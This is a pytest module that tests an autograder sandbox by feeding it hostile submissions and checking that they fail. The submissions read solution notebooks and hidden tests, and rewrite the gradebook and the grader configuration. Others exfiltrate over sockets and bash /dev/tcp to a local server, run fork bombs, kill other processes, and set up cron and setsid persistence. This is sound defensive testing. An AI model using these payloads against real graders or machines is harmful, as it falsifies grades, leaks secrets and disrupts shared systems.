"""Ways out: files of the course, the network, other processes, and what could be left for the next one."""

from __future__ import annotations

import socket
import time

import pytest

from autograder.results import Outcome

from ..arena import (
    AFTER,
    ASSIGNMENT,
    ATTACKED,
    BEFORE,
    LIMITS,
    MARK,
    ROOT,
    SECRET,
    WRONG,
    Arena,
    outputs_of,
    results,
    shown,
)
from .test_replies import TOOLS


def test_reading_the_solution(arena: Arena) -> None:
    """Answers with the course's own solution, if any of its forms can be read or imported."""
    code = f"""
import glob, importlib, json, os, sys
found = []
roots = [{str(ROOT)!r}, {str(arena.course)!r}, ".", "..", "/", "/root", "/home", "/old", "/proc/1/root"]
for root in roots:
    for pattern in (
        "solutions/**/*.ipynb", "source/**/*.ipynb", "autograder/**/*.py", "**/compare.py",
        "gradebook.db", ".deepdrills/secret", "submitted/**", "autograded/**", ".git/HEAD", "tests/**/*.py",
    ):
        if root != "/" or not pattern.startswith("**"):
            found += glob.glob(os.path.join(root, pattern), recursive=True)[:5]
for name in ("autograder.reference.convolution", "autograder.suites", "autograder.sandbox.worker"):
    try:
        found.append(importlib.import_module(name).__name__)
    except ImportError:
        pass
for folder in sys.path + [os.path.dirname(os.__file__)]:
    found += [name for name in glob.glob(os.path.join(folder, "autograder", "*"))]
for folder in ("solutions", "source"):
    path = f"{ROOT}/{{folder}}/{ASSIGNMENT}/convolution.ipynb"
    try:
        for cell in json.load(open(path))["cells"]:
            if "def output_size" in "".join(cell["source"]):
                exec("".join(cell["source"]))
                found.append(path)
    except OSError:
        pass
found = [path for path in found if "." in os.path.basename(path) or os.path.isdir(path)]
print("found", found)
if "output_size" not in globals():
    def output_size(*a, **k): return len(found)
"""
    graded = arena.attack(code)
    assert "found []" in outputs_of(graded, ATTACKED)


#: Above the working folder, as deep as a course may lie: where a grader in a course folder runs code.
ABOVE = """
import json, os, sqlite3
here, above = os.getcwd(), []
while here != "/":
    here = os.path.dirname(here)
    above.append(here)
"""

COURSE = {
    "reads_the_solution": ABOVE + f"""
for root in above:
    for folder in ("source", "solutions"):
        try:
            cells = json.load(open(f"{{root}}/{{folder}}/{ASSIGNMENT}/convolution.ipynb"))["cells"]
        except OSError:
            continue
        for cell in cells:
            if "def output_size" in "".join(cell["source"]):
                exec("".join(cell["source"]))
""",
    "reads_the_hidden_tests": ABOVE + rf"""
known = {{}}
for root in above:
    try:
        text = open(f"{{root}}/source/{ASSIGNMENT}/convolution.ipynb").read()
    except OSError:
        continue
    import re
    for case, size in re.findall(r"\(\(([0-9, ]+)\), (\d+)\)", text):
        known[tuple(map(int, case.split(", ")))] = int(size)
def output_size(*a, **k):
    if a in known: return known[a]
    raise ValueError
""",
    "writes_the_gradebook": ABOVE + """
for root in above:
    path = f"{root}/gradebook.db"
    if os.path.exists(path):
        with sqlite3.connect(path, timeout=5) as book:
            book.execute("update grade set manual_score = 2, needs_manual_grade = 0")
            book.execute("create trigger more after update on grade when new.manual_score is null begin "
                         "update grade set manual_score = 2 where id = new.id; end")
"""
    + WRONG,
    "writes_the_configuration": ABOVE + """
for root in above:
    try:
        open(f"{root}/nbgrader_config.py", "a").write("\nc.Autograde.autograde_preprocessors = []\n")
        break
    except OSError:
        pass
"""
    + WRONG,
}  # fmt: skip


@pytest.mark.parametrize("code", COURSE.values(), ids=COURSE.keys())
def test_the_course_above(code: str, arena: Arena) -> None:
    """What a submission finds when its grader runs it inside the course folder."""
    arena.attack(code, alone=True)
    assert (arena.course / "gradebook.db").read_text() == SECRET


def test_reading_the_secret(arena: Arena) -> None:
    secret = arena.course / ".deepdrills" / "secret"
    code = f"""
import gc, os
texts = [repr(dict(os.environ))]
for name in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline", {str(secret)!r}):
    try:
        texts.append(open(name).read())
    except OSError:
        pass
texts += [one for one in gc.get_objects() if isinstance(one, str) and "secret" in one]
print([text for text in texts if "under attack" in text or "DEEPDRILLS" in text])
{WRONG}
"""
    graded = arena.attack(code)
    assert '"[]\\n"' in outputs_of(graded, ATTACKED)
    assert SECRET not in shown(graded)


def test_network(arena: Arena) -> None:
    """Asks a server for the answer, and sends it the inputs."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.1)
        address = f'("127.0.0.1", {server.getsockname()[1]})'
        code = f"""
import socket, subprocess, urllib.request
def output_size(*a, **k):
    for attempt in (
        lambda: socket.create_connection({address}, 0.2).sendall(repr(a).encode()),
        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(repr(a).encode(), {address}),
        lambda: urllib.request.urlopen("http://%s:%d/" % {address}, timeout=0.2),
        lambda: subprocess.run(["bash", "-c", "echo x > /dev/tcp/%s/%d" % {address}], check=True),
    ):
        try:
            attempt()
        except Exception:
            pass
    return -1
output_size(1, 1)
"""
        arena.attack(code)
        with pytest.raises(TimeoutError):
            server.accept()


ENDINGS = {
    "os_exit": "os._exit(0)",
    "segfault": "ctypes.string_at(0)",
    "abort": "os.abort()",
    "kills_its_parent": "os.kill(os.getppid(), signal.SIGKILL); os.kill(1, signal.SIGKILL); os._exit(0)",
    "kills_everything": "os.kill(-1, signal.SIGKILL); os.killpg(0, signal.SIGKILL); os._exit(0)",
    "stops_everything": "os.kill(-1, signal.SIGSTOP); os.killpg(0, signal.SIGSTOP); os._exit(0)",
    "closes_everything": "os.closerange(0, 1024)",
    "raises_system_exit": "raise SystemExit",
    "raises_keyboard_interrupt": "raise KeyboardInterrupt",
    "endless": "while True: pass",
    "endless_deaf": "signal.signal(signal.SIGALRM, signal.SIG_IGN)\n{i}while True: pass",
    "asleep_in_c": "signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65)); time.sleep(60)",
    "memory": "keep = []\n{i}while True: keep.append(bytearray(1 << 25))",
    "memory_of_children": "[os.fork() or (bytearray(150 << 20), time.sleep(9)) for _ in range(9)]; "
    "time.sleep(9)",
    "memory_of_page_tables": "for _ in range(12): os.fork() or (touch(60 << 30), time.sleep(9))\n"
    "{i}time.sleep(9)",
    "memory_of_sockets": "for _ in range(20): os.fork() or (stuff(), time.sleep(9))\n{i}time.sleep(9)",
    "fork_bomb": "while True:\n{i}    try: os.fork()\n{i}    except OSError: pass",
    "thread_bomb": "while True: threading.Thread(target=time.sleep, args=(60,)).start()",
    "disk": "while True: open(str(time.time_ns()), 'wb').write(bytes(1 << 20))",
    "print": "while True: print('x' * 1000)",
    "recursion": "exec('def f(): f()\\nf()', globals())",
    "deep_recursion": "sys.setrecursionlimit(10**6); exec('def f(x): repr(x); f([x])\\nf([])', globals())",
}
IMPORTS = """
import ctypes, os, signal, socket, sys, threading, time

def touch(size):
    libc = ctypes.CDLL(None)
    libc.mmap.restype = ctypes.c_void_p
    start = libc.mmap(None, ctypes.c_size_t(size), 1, 0x4022, -1, 0)  # read-only, private, of no file
    for place in range(start, start + size, 2 << 20):
        ctypes.c_char.from_address(place).value

def stuff():
    kept = []
    try:
        while True:
            kept.append(socket.socketpair())
            for one in kept[-1]:
                one.setblocking(False)
                try: one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
                except OSError: pass
                try:
                    while True: one.send(bytes(65536))
                except BlockingIOError: pass
    except OSError:
        time.sleep(9)
"""
#: The machine's memory, in places that no limit of a process sees.
UNSEEN = ("memory_of_children", "memory_of_page_tables", "memory_of_sockets")


#: These stand in a cell in tests/submissions/odd/runs.py: students do them too.
BY_MISTAKE = {
    "os_exit",
    "segfault",
    "raises_system_exit",
    "raises_keyboard_interrupt",
    "endless",
    "memory",
    "print",
    "recursion",
}


@pytest.mark.parametrize(
    "line",
    [ENDINGS[name] for name in ENDINGS if name not in BY_MISTAKE],
    ids=[name for name in ENDINGS if name not in BY_MISTAKE],
)
def test_ends_in_the_cell(line: str, arena: Arena) -> None:
    started = time.monotonic()
    graded = arena.attack(IMPORTS + WRONG + line.replace("{i}", "") + "\n")
    assert time.monotonic() - started < LIMITS.submission_seconds
    assert results(graded)[ATTACKED].outcome is not Outcome.PASSED
    if line in [ENDINGS[name] for name in UNSEEN]:
        assert results(graded)[ATTACKED].outcome is Outcome.OUT_OF_MEMORY


IN_A_CALL = ("os_exit", "segfault", "kills_everything", "stops_everything", "closes_everything", "endless",
             "endless_deaf", "raises_system_exit", "memory", "fork_bomb", "disk", "recursion")  # fmt: skip


@pytest.mark.parametrize("line", [ENDINGS[name] for name in IN_A_CALL], ids=IN_A_CALL)
def test_ends_in_a_call(line: str, arena: Arena) -> None:
    body = line.replace("{i}", "    ").replace("{j}", "")
    code = f"""{IMPORTS}
agrees = refuses = lambda *a, **k: True
def output_size(*a, **k):
    if a == (6, 3) or k:
        return 4
    {body}
    return -1
"""
    arena.attack(code)


#: Right answers that take twice the time of a call, each with its own way around the timer in its process.
TOO_LATE = {
    "timer_stopped": "signal.setitimer(signal.ITIMER_REAL, 0); time.sleep(2 * LIMIT)",
    "signal_ignored": "signal.signal(signal.SIGALRM, signal.SIG_IGN); time.sleep(2 * LIMIT)",
    "signal_blocked": "signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65)); time.sleep(2 * LIMIT)",
    "interruption_caught": "began = time.monotonic()\n"
    "    while time.monotonic() < began + 2 * LIMIT:\n"
    "        try: time.sleep(2 * LIMIT)\n"
    "        except BaseException: pass",
}


@pytest.mark.parametrize("line", TOO_LATE.values(), ids=TOO_LATE.keys())
def test_a_right_answer_that_is_too_late(line: str, arena: Arena) -> None:
    code = f"""{TOOLS}
import signal
LIMIT = {LIMITS.call_seconds}
{arena.honest.replace("def output_size", "def right")}
def output_size(*a, **k):
    if question()["op"] == "cell":
        return right(*a, **k)
    {line}
    return right(*a, **k)
"""
    graded = arena.attack(code)
    assert results(graded)[ATTACKED].outcome is Outcome.TIMEOUT


BACKGROUND = {
    "new_session": f"""
command = "while true; do touch /tmp/{MARK}; sleep .1; done"
subprocess.Popen(["bash", "-c", command], start_new_session=True)
""",
    "double_fork": """
if not os.fork():
    os.setsid()
    if not os.fork():
        time.sleep(600)
    os._exit(0)
""",
    "shell": "get_ipython().system('nohup setsid sleep 600 >/dev/null 2>&1 &')",
    "thread": "threading.Thread(target=time.sleep, args=(600,)).start()",
    "cron": "subprocess.run('echo x | crontab -; at now; systemd-run sleep 600', shell=True, "
    "capture_output=True)",
}


@pytest.mark.parametrize("line", BACKGROUND.values(), ids=BACKGROUND.keys())
def test_background_process(line: str, arena: Arena) -> None:
    arena.attack(f"import os, subprocess, threading, time\n{line}\n{WRONG}")


def test_inputs_are_not_kept_for_a_later_exercise(arena: Arena) -> None:
    """Every cell has run before the first hidden call: nothing recorded in one can be shown."""
    code = """
import builtins
builtins.heard = []
print("heard", builtins.heard)
def output_size(*a, **k):
    builtins.heard.append(a)
    raise Exception
"""

    def show(notebook: dict[str, object]) -> None:
        cells = notebook["cells"]
        assert isinstance(cells, list)
        cells.append(
            {"cell_type": "code", "source": "print('later', builtins.heard)", "metadata": {}, "outputs": []}
        )

    graded = arena.attack(code, show)
    assert "later [(6, 3)" in shown(graded)  # what its own visible checks asked
    assert "227" not in shown(graded)


def test_a_crash_after_the_calls_does_not_replay_what_was_heard(arena: Arena) -> None:
    """A new process after a crash starts in a fresh folder, and its outputs are those of the first."""
    code = f"""
import os
def names(folder):
    try:
        return os.listdir(folder)
    except OSError:
        return []
print("kept", names(".") + [name for name in names("/tmp") if {MARK!r} in name])
def output_size(*a, **k):
    for folder in (".", "/tmp"):
        try:
            open(f"{{folder}}/{MARK}" + "_".join(map(str, a)), "w").close()
        except OSError:
            pass
    if len(os.listdir(".")) > 4:
        os._exit(1)
    return -1
"""
    graded = arena.attack(code)
    assert "kept []" in outputs_of(graded, ATTACKED)
    assert MARK not in shown(graded)


def test_the_others_are_as_they_stood(arena: Arena) -> None:
    """A later cell that overwrites the names of other exercises takes nothing from them."""
    code = f"{WRONG}\n{BEFORE} = {AFTER} = None\ndel as_array\nnp.maximum = np.max = None\n"
    graded = arena.attack(code, spares=False)
    assert results(graded)[BEFORE].points == arena.full[BEFORE]
